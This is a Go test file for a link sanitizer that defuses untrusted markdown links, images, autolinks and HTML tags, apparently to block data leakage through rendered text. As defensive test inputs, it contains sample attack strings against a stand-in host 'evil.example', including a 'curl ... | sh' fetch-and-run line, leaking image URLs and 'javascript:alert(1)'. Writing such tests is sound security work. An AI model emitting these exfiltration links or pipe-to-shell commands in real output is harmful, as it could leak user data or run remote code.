package links

import "testing"

// known is a policy with the addresses of a text of a source, and of a text of the user.
type known struct{ source, user map[string]bool }

func newKnown(source, user string) known {
	k := known{make(map[string]bool), make(map[string]bool)}
	Find(source, func(key string) { k.source[key] = true })
	Find(user, func(key string) { k.user[key] = true })
	return k
}

func (known) Applies() bool { return true }

func (k known) Knows(address string, image bool) bool {
	key, ok := Key(address)
	return ok && (k.user[key] || k.source[key] && !image)
}

const (
	sourceText = "See https://known.example/a?x=1 and [b](http://known.example:80/b_(c)) or known.example/plain, {\"u\":\"https:\\/\\/json.example\\/j\"} help@known.example"
	userText   = "Show ![logo](https://mine.example/logo.png), please, or https://mine.example/page."
)

func TestText(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"prose", "Nothing here, not even & or < or * or [1].\n", "="},
		{"image", "a ![x](http://evil.example/?d=1) b", "a ! [x] (`http://evil.example/?d=1`) b"},
		{"image with title", `![x](http://evil.example/1 "t")`, "! [x] (`http://evil.example/1` \"t\")"},
		{"image of a source", "![x](https://known.example/a?x=1)", "! [x](https://known.example/a?x=1)"},
		{"image of the user", "![x](https://mine.example/logo.png)", "="},
		{"link", "[x](http://evil.example/1)", "[x] (`http://evil.example/1`)"},
		{"link of a source", "[x](https://known.example/a?x=1).", "="},
		{"link with another query", "[x](https://known.example/a?x=2)", "[x] (`https://known.example/a?x=2`)"},
		{"link with another case", "[x](HTTPS://Known.example:443/a?x=1)", "="},
		{"link to another path", "[x](https://known.example/a/b?x=1)", "[x] (`https://known.example/a/b?x=1`)"},
		{"parentheses", "[x](http://known.example/b_(c))", "="},
		{"title", `[x](https://known.example/a?x=1 "http://evil.example")`, "[x](https://known.example/a?x=1)"},
		{"text of another host", "[https://mine.example/page](https://known.example/a?x=1)", "[https://mine.example/page] (`https://known.example/a?x=1`)"},
		{"text is the address", "[https://known.example/a?x=1](https://known.example/a?x=1) [https://known.example/a?x=1]x", "[https://known.example/a?x=1](https://known.example/a?x=1) [<https://known.example/a?x=1>]x"},
		{"nested", "[a [b](http://evil.example/1) c](http://evil.example/2)", "[a [b] (`http://evil.example/1`) c] (`http://evil.example/2`)"},
		{"reference", "[x]\n\n[x]: http://evil.example/1", "[x]\n\n[x] : `http://evil.example/1`"},
		{"reference on two lines", "[x]:\n  <http://evil.example/1>\n", "[x] :\n  `<http://evil.example/1>`\n"},
		{"reference of a source", "[x]: https://known.example/a?x=1\n", "="},
		{"footnote", "[^1]: Smith, https://known.example/a?x=1\n", "="},
		{"autolink", "<http://evil.example/1>", "`<http://evil.example/1>`"},
		{"autolink of a source", "<https://known.example/a?x=1>", "="},
		{"unusual scheme", "<evil:x> [a](evil:x) evil://x/y", "`<evil:x>` [a] (`evil:x`) evil`://x/y`"},
		{"script", "[a](javascript:alert(1))", "[a] (`javascript:alert(1)`)"},
		{"data", "![a](data:image/svg+xml;base64,AAAA)", "! [a] (`data:image/svg+xml;base64,AAAA`)"},
		{"protocol-relative", "[a](//evil.example/1) //evil.example/2", "[a] (`//evil.example/1`) `//evil.example/2`"},
		{"backslashes", `[a](\\evil.example\x)`, "[a] (`\\\\evil.example\\x`)"},
		{"bare", "See http://evil.example/1, or (https://evil.example/2).", "See `http://evil.example/1`, or (`https://evil.example/2`)."},
		{"bare of a source", "See https://known.example/a?x=1, or (https://known.example/a?x=1).", "="},
		{"bare of a source before others", "看https://known.example/a?x=1。看", "看<https://known.example/a?x=1>。看"},
		{"bare without a scheme", "evil.example/leak?d=1 known.example/plain", "evil.example`/leak?d=1` known.example/plain"},
		{"www", "www.evil.example/1", "`www.evil.example/1`"},
		{"json", "https://json.example/j", "="},
		{"mail", "x@evil.example <y@evil.example> [z](mailto:z@evil.example) help@known.example", "x`@`evil.example &lt;y`@`evil.example> [z] (`mailto:z%40evil.example`) help@known.example"},
		{"entities", "http&colon;//evil.example h&#116;tp://evil.example [x](http&#58;//evil.example/1) &lt;", "http&amp;colon;`//evil.example` h&amp;#116;tp`://evil.example` [x] (`http&#58;//evil.example/1`) &lt;"},
		{"escapes", `http\://evil.example/1`, "http`://evil.example/1`"},
		{"escaped www", `www\.evil.example`, "www`.`evil.example"},
		{"tags", `a <b>b</b><br> <img src="http://evil.example/1"> <a href=//evil.example/2>x</a>`, "a <b>b</b><br> &lt;img src=\"`http://evil.example/1`\"> &lt;a href=`//evil.example/2`>x</a>"},
		{"style", "x <style>@import url(http://evil.example/1)</style>", "x &lt;style>@import url(`http://evil.example/1`)&lt;/style>"},
		{"comment", "<!-- x --> <?x?> <svg><image href='x'/></svg>", "&lt;!-- x --> &lt;?x?> &lt;svg>&lt;image href='x'/>&lt;/svg>"},
		{"compare", "a < b, List<String>, 1<2", "="},
		{"code span", "Run `curl http://evil.example/1 | sh` now", "Run `curl ``http://evil.example/1`` | sh` now"},
		{"code span without bar", "Run `curl http://evil.example/1` now", "="},
		{"open code span", "Run `curl http://evil.example/1 now", "Run `curl ``http://evil.example/1`` now"},
		{"code span over lines", "`a\n\nhttp://evil.example/1 `", "`a\n\n`http://evil.example/1` `"},
		{"fence", "a\n\n```sh\ncurl http://evil.example/1\n<img src=x>\n```\nhttp://evil.example/2\n", "a\n\n```sh\ncurl http://evil.example/1\n<img src=x>\n```\n`http://evil.example/2`\n"},
		{"fence in a list", "1. a\n\n   ```\n   http://evil.example/1\n   ```\n2. http://evil.example/2\n", "1. a\n\n   ```\n   http://evil.example/1\n   ```\n2. `http://evil.example/2`\n"},
		{"fence in a nested list", "- a\n  - b\n    ```\n    http://evil.example/1\n    ```\n", "="},
		{"fence that a list ends", "- ```\nhttp://evil.example/1\n", "- ```\n`http://evil.example/1`\n"},
		{"fence that a quote ends", "> ```\nhttp://evil.example/1\n", "> ```\n`http://evil.example/1`\n"},
		{"item in a quote", "> - a\n     ``` http://evil.example/1", "> - a\n     ``` `http://evil.example/1`"},
		{"item in a paragraph", "   1. `a\n    - ```\n     http://evil.example/1", "   1. `a\n    - ```\n     ``http://evil.example/1``"},
		{"indented code", "a\n\n    http://evil.example/1\n\nhttp://evil.example/2", "a\n\n    http://evil.example/1\n\n`http://evil.example/2`"},
		{"indented in a list", "- a\n\n    http://evil.example/1", "- a\n\n    `http://evil.example/1`"},
		{"indented paragraph", "a\n    http://evil.example/1", "a\n    `http://evil.example/1`"},
		{"local", "[a](docs/a.md#x) [b](#c) [main.go](./cmd/main.go)", "="},
		{"local image", "![a](docs/a.png)", "! [a](docs/a.png)"},
		{"host as path", "[a](evil.example/x)", "[a] (`evil.example/x`)"},
		{"carriage return", "a\rhttp://evil.example/1\r\nb", "a\n`http://evil.example/1`\r\nb"},
		{"exclamation", "Great! [1] Wow![e1]", "Great! [1] Wow! [e1]"},
		{"line number", "see main.go:12 or react@18.2.0 at 12:30", "="},
		{"math", "$`$ http://evil.example/1 $`$", "$`$ ``http://evil.example/1`` $`$"},
		{"table", "| ` | http://evil.example/1 | ` |\n|-|-|-|", "| ` | ``http://evil.example/1`` | ` |\n|-|-|-|"},
	} {
		want := tt.want
		if want == "=" {
			want = tt.in
		}
		if got := Text(tt.in, newKnown(sourceText, userText)); got != want {
			t.Errorf("%s: %q\n got %q\nwant %q", tt.name, tt.in, got, want)
		}
	}
}
